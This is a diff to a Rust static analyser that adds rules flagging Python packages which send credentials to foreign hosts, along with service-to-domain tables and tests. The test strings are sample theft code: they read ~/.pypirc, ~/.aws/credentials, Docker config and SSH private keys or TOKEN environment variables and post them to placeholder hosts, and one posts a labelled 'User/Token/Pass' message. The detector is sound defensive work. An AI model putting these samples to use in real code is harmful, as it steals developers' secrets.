@@ -113,6 +113,227 @@ pub fn check_silent_credential_send(checker: &mut Checker, call: &ExprCall, targ
     );
 }
 
+/// Label words that say the value after them is a credential (`Token: {t}`, `Pass: {p}`).
+const SECRET_LABELS: [&str; 9] = [
+    "token",
+    "pass",
+    "pwd",
+    "secret",
+    "seed",
+    "mnemonic",
+    "private key",
+    "cookie",
+    "api key",
+];
+
+/// The labelled interpolations of an f-string whose value is not a constant: for each, the
+/// label written right before it (`User: {user}` → `user`), lowercased.
+fn interpolation_labels(checker: &Checker, fstring: &ruff_python_ast::ExprFString) -> Vec<String> {
+    use ruff_python_ast::{FStringPart, InterpolatedStringElement};
+    let mut labels = Vec::new();
+    let mut before = String::new();
+    for part in fstring.value.iter() {
+        let elements = match part {
+            FStringPart::Literal(literal) => {
+                before.push_str(&literal.value);
+                continue;
+            }
+            FStringPart::FString(f) => &f.elements,
+        };
+        for element in elements {
+            match element {
+                InterpolatedStringElement::Literal(literal) => before.push_str(&literal.value),
+                InterpolatedStringElement::Interpolation(field) => {
+                    let label = before
+                        .rsplit(['\n', '|', ',', ';', '{', '}'])
+                        .next()
+                        .unwrap_or("")
+                        .trim()
+                        .trim_matches(['*', '`', '_', '>', '<', '[', ']']);
+                    if let Some(word) = label
+                        .strip_suffix(':')
+                        .or_else(|| label.strip_suffix('='))
+                        .map(str::trim)
+                        .filter(|w| (2..=24).contains(&w.len()))
+                        && checker.fold(&field.expression).is_none()
+                        && labels.len() < 32
+                    {
+                        labels.push(word.to_ascii_lowercase());
+                    }
+                    before.clear();
+                }
+            }
+        }
+    }
+    labels
+}
+
+/// A message that labels what it carries as credentials (`f'User: {u}\nToken: {t}\nPass:
+/// {p}'`), posted to a fixed address by a statement that throws the reply away. The labels
+/// are written for the person reading the stolen data; a client authenticating puts
+/// credentials in fields the service reads, and looks at its answer.
+pub fn check_labelled_credential_send(
+    checker: &mut Checker,
+    call: &ExprCall,
+    target: Option<&Expr>,
+) {
+    if checker.discarded_call != Some(call.range()) {
+        return;
+    }
+    let Some(url) = target
+        .and_then(|t| super::partial_text(checker, t))
+        .filter(|url| super::network::has_constant_host(url))
+    else {
+        return;
+    };
+    let mut bodies: Vec<&Expr> = Vec::new();
+    for key in ["json", "data", "params", "content"] {
+        match super::keyword(call, key) {
+            Some(Expr::Dict(dict)) => bodies.extend(dict.items.iter().map(|i| &i.value)),
+            Some(Expr::Name(name)) => {
+                if let Some(&dict) = checker.dict_bindings.get(name.id.as_str()) {
+                    bodies.extend(dict.items.iter().map(|i| &i.value));
+                }
+            }
+            Some(other) => bodies.push(other),
+            None => {}
+        }
+    }
+    let labels: Vec<String> = bodies
+        .iter()
+        .take(32)
+        .filter_map(|body| match body {
+            Expr::FString(fstring) => Some(interpolation_labels(checker, fstring)),
+            _ => None,
+        })
+        .flatten()
+        .collect();
+    let secret: Vec<&String> = labels
+        .iter()
+        .filter(|label| SECRET_LABELS.iter().any(|word| label.contains(word)))
+        .collect();
+    if secret.is_empty() || labels.len() < 2 {
+        return;
+    }
+    let context = checker.context();
+    let severity = match context {
+        ExecContext::Install => 0.9,
+        ExecContext::Import => 0.85,
+        ExecContext::Runtime => 0.75,
+        ExecContext::TestOrDocs => 0.1,
+    };
+    let location = checker.location(call.range());
+    let shown: Vec<&str> = secret.iter().take(4).map(|s| s.as_str()).collect();
+    checker.report(
+        &RULE,
+        call.range(),
+        format!(
+            "a message labelling the values it carries as credentials ({}) → network sink ({location}, {}) {}; the reply is thrown away",
+            shown.join(", "),
+            crate::text::shorten(&url, 80),
+            context.phrase()
+        ),
+        severity,
+        vec!["flow", "labelled-credential-send"],
+    );
+}
+
+/// Credential files of one service, and the domains that service answers on: the token in
+/// `~/.pypirc` goes to PyPI, the one in `~/.npmrc` to npm. A tool sends it there when called;
+/// sent to any other fixed host it is stolen, whenever the code runs. An SSH private key has no
+/// web service it is sent to.
+const STORE_SERVICES: &[(&str, &[&str])] = &[
+    ("PyPI credentials file", &["pypi.org", "pythonhosted.org"]),
+    (
+        "AWS credentials file",
+        &[
+            "amazonaws.com",
+            "amazonaws.com.cn",
+            "amazon.com",
+            // S3-compatible stores take the same keys.
+            "wasabisys.com",
+            "backblazeb2.com",
+            "digitaloceanspaces.com",
+            "r2.cloudflarestorage.com",
+            "googleapis.com",
+            "linodeobjects.com",
+        ],
+    ),
+    ("npm registry token", &["npmjs.org", "npmjs.com"]),
+    (
+        "GitHub CLI token",
+        &["github.com", "githubusercontent.com", "ghe.com"],
+    ),
+    (
+        "GitHub Copilot token",
+        &["github.com", "githubcopilot.com", "githubusercontent.com"],
+    ),
+    ("GitLab CLI token", &["gitlab.com"]),
+    ("Cargo registry token", &["crates.io"]),
+    ("RubyGems API key", &["rubygems.org"]),
+    ("Terraform Cloud token", &["terraform.io", "hashicorp.com"]),
+    ("Kaggle API key", &["kaggle.com"]),
+    ("Hugging Face token", &["huggingface.co", "hf.co"]),
+    (
+        "Google Cloud credentials",
+        &["googleapis.com", "google.com"],
+    ),
+    (
+        "Azure CLI credentials",
+        &[
+            "azure.com",
+            "azure.net",
+            "microsoft.com",
+            "microsoftonline.com",
+            "windows.net",
+        ],
+    ),
+    ("DigitalOcean token", &["digitalocean.com"]),
+    (
+        "Databricks token",
+        &[
+            "databricks.com",
+            "azuredatabricks.net",
+            "gcp.databricks.com",
+        ],
+    ),
+    ("Hetzner Cloud token", &["hetzner.cloud", "hetzner.com"]),
+    (
+        "Alibaba Cloud credentials",
+        &["aliyuncs.com", "aliyun.com", "alibabacloud.com"],
+    ),
+    (
+        "Oracle Cloud credentials",
+        &["oraclecloud.com", "oracle.com"],
+    ),
+    ("Claude Code login", &["anthropic.com", "claude.ai"]),
+    ("SSH private key", &[]),
+];
+
+/// The fixed host `url` names, lower case, when it is known and not the machine itself.
+fn fixed_host(url: &str) -> Option<String> {
+    if !super::network::has_constant_host(url) || super::network::is_loopback_url(url) {
+        return None;
+    }
+    let rest = url.split_once("://")?.1;
+    let host = rest.split(['/', '?', '#']).next()?;
+    let host = host.rsplit_once('@').map_or(host, |(_, host)| host);
+    let host = host.split(':').next()?;
+    Some(host.to_ascii_lowercase())
+}
+
+/// For data read from a service's credential file sent to `host`: the store's name when the
+/// host is none of that service's.
+fn foreign_to_store(label: &str, host: &str) -> Option<&'static str> {
+    let (store, domains) = STORE_SERVICES
+        .iter()
+        .find(|(store, _)| label.starts_with(store))?;
+    let own = domains
+        .iter()
+        .any(|domain| host == *domain || host.ends_with(&format!(".{domain}")));
+    (!own).then_some(*store)
+}
+
 /// Kinds of sinks a flow can end in.
 #[derive(Clone, Copy, Debug, PartialEq, Eq)]
 pub enum SinkKind {
@@ -209,6 +430,11 @@ pub fn check_sink(checker: &mut Checker, call: &ExprCall, sink: SinkKind) {
     let endpoint = (sink == SinkKind::Network)
         .then(|| sink_endpoint(checker, call))
         .flatten();
+    // The fixed host the request goes to, to tell a service's token sent to that service from
+    // one sent elsewhere.
+    let host = target
+        .and_then(|target| super::partial_text(checker, target))
+        .and_then(|url| fixed_host(&url));
     // `API.format(token=os.environ['BOT_TOKEN'], …)`: one variable filling the secret slot of
     // a bot or webhook URL is the user's own bot authenticating, not data sent to it.
     let fills_bot_secret = target_source
@@ -272,6 +498,15 @@ pub fn check_sink(checker: &mut Checker, call: &ExprCall, sink: SinkKind) {
                 context
             };
             let mut severity = flow_severity(&source, sink, judged_in, endpoint.is_some());
+            if source.kind == SourceKind::Secret
+                && sink == SinkKind::Network
+                && judged_in == ExecContext::Runtime
+                && host
+                    .as_deref()
+                    .is_some_and(|host| foreign_to_store(&source.label, host).is_some())
+            {
+                severity = severity.max(0.7);
+            }
             if fills_bot_secret && source.label.starts_with("environment variable ") {
                 severity = severity.min(0.1);
             }
@@ -603,6 +838,52 @@ mod tests {
         // Through a helper of the module, called from the function that writes.
         let helper = "import base64, json, os, sys\ndef _pack(o):\n    once = base64.b64encode(json.dumps(o).encode())\n    return base64.b64encode(once).decode()\ndef emit(o):\n    blob = _pack(o)\n    for i in range(0, len(blob), 100):\n        sys.stdout.write(blob[i:i + 100] + '\\n')\nemit({k: v for k, v in os.environ.items() if 'TOKEN' in k})\n";
         assert!(encoded_output(helper) >= 0.8);
+    }
+
+    #[test]
+    fn a_store_under_an_overridable_folder_is_read_at_its_default() {
+        let code = "import os, json, requests\nroot = os.getenv('DOCKER_CONFIG', os.path.expanduser('~/.docker'))\nwith open(os.path.join(root, 'config.json')) as fh:\n    cfg = json.load(fh)\nrequests.post('http://203.0.113.40/x', json=cfg)\n";
+        assert!(max_severity("p/pkg/__init__.py", code, "WH200") >= 0.9);
+        // An override with no default names no store.
+        let bare = "import os, json, requests\nroot = os.getenv('APP_HOME')\nwith open(os.path.join(root, 'config.json')) as fh:\n    cfg = json.load(fh)\nrequests.post('http://203.0.113.40/x', json=cfg)\n";
+        assert!(max_severity("p/pkg/__init__.py", bare, "WH200") < 0.5);
+    }
+
+    #[test]
+    fn a_services_token_sent_to_another_fixed_host_is_stolen_when_called() {
+        let stolen = "import os, requests\ndef sync():\n    with open(os.path.expanduser('~/.pypirc')) as fh:\n        cfg = fh.read()\n    requests.post('https://rpc.example-chain.net/', json={'data': cfg})\n";
+        assert!(max_severity("p/pkg/cli.py", stolen, "WH200") >= 0.7);
+        let key = "import os, requests\ndef backup():\n    key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n    requests.put('https://keys.example-backup.com/k', data=key)\n";
+        assert!(max_severity("p/pkg/cli.py", key, "WH200") >= 0.7);
+    }
+
+    #[test]
+    fn a_services_token_sent_to_that_service_or_a_configured_host_is_a_client() {
+        let own = "import os, requests\ndef upload(dist):\n    cfg = open(os.path.expanduser('~/.pypirc')).read()\n    requests.post('https://upload.pypi.org/legacy/', data={'cfg': cfg}, files={'content': open(dist, 'rb')})\n";
+        assert!(max_severity("p/pkg/cli.py", own, "WH200") < 0.5);
+        let configured = "import os, requests\ndef upload(index_url):\n    cfg = open(os.path.expanduser('~/.pypirc')).read()\n    requests.post(index_url, data={'cfg': cfg})\n";
+        assert!(max_severity("p/pkg/cli.py", configured, "WH200") < 0.5);
+        let s3 = "import os, requests\ndef put(name):\n    creds = open(os.path.expanduser('~/.aws/credentials')).read()\n    requests.put(f'https://bucket.s3.us-east-1.amazonaws.com/{name}', headers={'x': creds})\n";
+        assert!(max_severity("p/pkg/cli.py", s3, "WH200") < 0.5);
+    }
+
+    #[test]
+    fn a_message_labelling_credentials_sent_to_a_fixed_host_is_theft() {
+        let stolen = "import requests\nclass Shortener:\n    def __init__(self, user, signature, sign):\n        api = 'https://relay.example-app.com'\n        requests.post(api, data={'content': f'@everyone \\nUser: {user}\\nToken: {signature}\\nPass: {sign}'})\n";
+        assert!(max_severity("p/pkg/utils.py", stolen, "WH200") >= 0.75);
+    }
+
+    #[test]
+    fn labelled_values_that_are_not_credentials_or_whose_reply_is_read_are_no_theft() {
+        // A build notifier labels a version and a commit.
+        let notice = "import requests\ndef notify(version, commit):\n    requests.post('https://hooks.example.com/x', json={'text': f'Version: {version}, Commit: {commit}'})\n";
+        assert!(max_severity("p/pkg/n.py", notice, "WH200") < 0.3);
+        // A login whose answer is read is a client authenticating.
+        let login = "import requests\ndef login(user, password):\n    r = requests.post('https://api.example.com/login', data={'q': f'user: {user} pass: {password}'})\n    return r.json()\n";
+        assert!(max_severity("p/pkg/l.py", login, "WH200") < 0.3);
+        // One labelled value alone is a greeting, not a report of someone's keys.
+        let one = "import requests\ndef ping(token):\n    requests.post('https://api.example.com/ping', data={'m': f'token: {token}'})\n";
+        assert!(max_severity("p/pkg/p.py", one, "WH200") < 0.3);
     }
 
     #[test]
